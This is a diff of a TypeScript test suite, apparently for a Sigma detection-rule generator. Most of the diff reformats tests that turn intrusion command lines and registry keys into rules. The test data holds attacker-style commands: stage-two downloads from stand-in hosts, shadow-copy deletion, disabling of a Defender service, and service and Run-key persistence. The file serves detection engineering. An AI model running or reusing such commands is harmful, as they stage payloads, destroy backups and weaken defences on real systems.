@@ -14,12 +14,14 @@ type Rule = { title: string; detection: Record<string, unknown>; level: string }
 const cmdline = (value: string) => ({ ...item, value, executable: value.split(' ')[0] ?? value });
 const rulesOf = (input: Partial<BuiltinSigmaInput>) =>
   generateBuiltinRules({ article, platform: 'windows', ...input }).map((draft) => ({ draft, rule: draft.rule as unknown as Rule }));
-const processRules = (...commandLines: string[]) => rulesOf({ cmdlines: commandLines.map(cmdline) }).filter(({ draft }) => draft.telemetryClass === 'process_creation');
+const processRules = (...commandLines: string[]) =>
+  rulesOf({ cmdlines: commandLines.map(cmdline) }).filter(({ draft }) => draft.telemetryClass === 'process_creation');
 const valuesOf = (rule: Rule) => JSON.stringify(rule.detection);
 
 describe('command-line rules carry a value of the intrusion, not only generic flags', () => {
   it('reads a long quoted PowerShell command for its path when the flags before it are all it had', () => {
-    const inner = "New-Service -Name 'QuillSyncSvc' -BinaryPathName 'C:\\ProgramData\\QuillSync\\qsync.exe --service' -StartupType Automatic -Description 'Quill sync'";
+    const inner =
+      "New-Service -Name 'QuillSyncSvc' -BinaryPathName 'C:\\ProgramData\\QuillSync\\qsync.exe --service' -StartupType Automatic -Description 'Quill sync'";
     const [rule] = processRules(`powershell.exe -nop -ep bypass -c "${inner}"`);
     expect(rule?.rule.detection['selection']).toEqual({
       'Image|endswith': '\\powershell.exe',
@@ -45,13 +47,18 @@ describe('command-line rules carry a value of the intrusion, not only generic fl
   });
 
   it('joins a URL the publisher wrapped onto the next line, and drops a selection with only switches and user folders', () => {
-    const rules = processRules('cmd /k "curl -o %USERPROFILE%\\Downloads\\setup_48213.msi \nhxxp[:]//dl-mirror-cdn[.]example/?d=77 && \nexplorer /select,%USERPROFILE%\\Downloads\\setup_48213.msi"');
+    const rules = processRules(
+      'cmd /k "curl -o %USERPROFILE%\\Downloads\\setup_48213.msi \nhxxp[:]//dl-mirror-cdn[.]example/?d=77 && \nexplorer /select,%USERPROFILE%\\Downloads\\setup_48213.msi"',
+    );
     expect(rules.map(({ rule }) => rule.title)).toEqual(['Curl.EXE Download From Remote Host']);
     expect(valuesOf(must(rules[0]).rule)).toContain('dl-mirror-cdn.example');
   });
 
   it('names what a cmdlet acts on (-Name, -TaskName) when its switches alone would match any use of it', () => {
-    const [rule] = processRules('Start-Service -Name QuillSyncSvc', 'Register-ScheduledTask -TaskName "Quill Sync Heartbeat" -Action $a -Trigger $t -RunLevel Highest -Force');
+    const [rule] = processRules(
+      'Start-Service -Name QuillSyncSvc',
+      'Register-ScheduledTask -TaskName "Quill Sync Heartbeat" -Action $a -Trigger $t -RunLevel Highest -Force',
+    );
     expect(rule?.rule.detection).toMatchObject({
       selection_1: { 'CommandLine|contains|all': ['Start-Service', '-Name', 'QuillSyncSvc'] },
       selection_2: { 'CommandLine|contains|all': ['Register-ScheduledTask', '-TaskName', 'Quill Sync Heartbeat'] },
@@ -59,24 +66,38 @@ describe('command-line rules carry a value of the intrusion, not only generic fl
   });
 
   it('reads the command PowerShell is given on the line after -Command', () => {
-    const [rule] = processRules('powershell.exe -ep bypass -Command \n"Invoke-WebRequest -OutFile C:\\ProgramData\\quill.bin http://203.0.113.44/quill/stage2.php"');
+    const [rule] = processRules(
+      'powershell.exe -ep bypass -Command \n"Invoke-WebRequest -OutFile C:\\ProgramData\\quill.bin http://203.0.113.44/quill/stage2.php"',
+    );
     expect(valuesOf(must(rule).rule)).toContain('/quill/stage2.php');
   });
 
   it('still writes behaviours that are the finding on their own, with no value of the intrusion', () => {
     const rules = processRules('nltest /domain_trusts /all_trusts', 'vssadmin delete shadows /all /quiet');
-    expect(rules.map(({ rule }) => rule.title)).toEqual(['Domain Trust Or Controller Discovery Via Nltest.EXE', 'Shadow Copies Deleted Via Vssadmin.EXE']);
+    expect(rules.map(({ rule }) => rule.title)).toEqual([
+      'Domain Trust Or Controller Discovery Via Nltest.EXE',
+      'Shadow Copies Deleted Via Vssadmin.EXE',
+    ]);
   });
 });
 
 describe('registry rules require the data the article shows', () => {
-  const serviceKey = { ...item, value: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\WdNisSvc\\Start', hive: 'HKLM' as const, path: 'SYSTEM\\CurrentControlSet\\Services\\WdNisSvc\\Start' };
-  const registryRules = (input: Partial<BuiltinSigmaInput>) => rulesOf(input).filter(({ draft }) => draft.telemetryClass === 'registry_set');
+  const serviceKey = {
+    ...item,
+    value: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\WdNisSvc\\Start',
+    hive: 'HKLM' as const,
+    path: 'SYSTEM\\CurrentControlSet\\Services\\WdNisSvc\\Start',
+  };
+  const registryRules = (input: Partial<BuiltinSigmaInput>) =>
+    rulesOf(input).filter(({ draft }) => draft.telemetryClass === 'registry_set');
 
   it('requires the DWORD reg.exe wrote, as Sysmon renders it', () => {
     const cmdlines = [cmdline('reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WdNisSvc /v Start /t REG_DWORD /d 4 /f')];
     const [rule] = registryRules({ registryKeys: [serviceKey], cmdlines });
-    expect(rule?.rule.detection['selection']).toEqual({ 'TargetObject|contains': '\\SYSTEM\\CurrentControlSet\\Services\\WdNisSvc\\Start', Details: 'DWORD (0x00000004)' });
+    expect(rule?.rule.detection['selection']).toEqual({
+      'TargetObject|contains': '\\SYSTEM\\CurrentControlSet\\Services\\WdNisSvc\\Start',
+      Details: 'DWORD (0x00000004)',
+    });
   });
 
   it('requires the value Set-ItemProperty wrote, and the rule still fires on the telemetry of what the article observed', () => {
@@ -94,20 +115,42 @@ describe('registry rules require the data the article shows', () => {
 
   it('writes no rule on a well-known service value when nothing says what it was set to', () => {
     expect(registryRules({ registryKeys: [serviceKey] })).toEqual([]);
-    const sense = { ...serviceKey, value: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\Sense', path: 'SYSTEM\\CurrentControlSet\\Services\\Sense', value_name: 'Start' };
+    const sense = {
+      ...serviceKey,
+      value: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\Sense',
+      path: 'SYSTEM\\CurrentControlSet\\Services\\Sense',
+      value_name: 'Start',
+    };
     expect(registryRules({ registryKeys: [sense] })).toEqual([]);
   });
 
   it('keeps a rule on a service the attacker named, data or not', () => {
-    const own = { ...serviceKey, value: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\QuillSyncSvc\\Start', path: 'SYSTEM\\CurrentControlSet\\Services\\QuillSyncSvc\\Start' };
+    const own = {
+      ...serviceKey,
+      value: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\QuillSyncSvc\\Start',
+      path: 'SYSTEM\\CurrentControlSet\\Services\\QuillSyncSvc\\Start',
+    };
     expect(registryRules({ registryKeys: [own] })).toHaveLength(1);
   });
 
   it('requires the stable part of string data: cmd.exe expands %APPDATA% before reg.exe writes it', () => {
-    const runKey = { ...item, value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', hive: 'HKCU' as const, path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', value_name: 'QuillSync' };
-    const cmdlines = [cmdline('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v QuillSync /t REG_SZ /d "%APPDATA%\\QuillSync\\qsync.exe --tray" /f')];
+    const runKey = {
+      ...item,
+      value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+      hive: 'HKCU' as const,
+      path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+      value_name: 'QuillSync',
+    };
+    const cmdlines = [
+      cmdline(
+        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v QuillSync /t REG_SZ /d "%APPDATA%\\QuillSync\\qsync.exe --tray" /f',
+      ),
+    ];
     const [rule] = registryRules({ registryKeys: [runKey], cmdlines });
-    expect(rule?.rule.detection['selection']).toMatchObject({ 'TargetObject|endswith': '\\QuillSync', 'Details|contains': '\\QuillSync\\qsync.exe --tray' });
+    expect(rule?.rule.detection['selection']).toMatchObject({
+      'TargetObject|endswith': '\\QuillSync',
+      'Details|contains': '\\QuillSync\\qsync.exe --tray',
+    });
     const observables = [
       { type: 'registry_key', value: runKey.value, attributes: { value_name: 'QuillSync' } },
       { type: 'cmdline', value: must(cmdlines[0]).value },
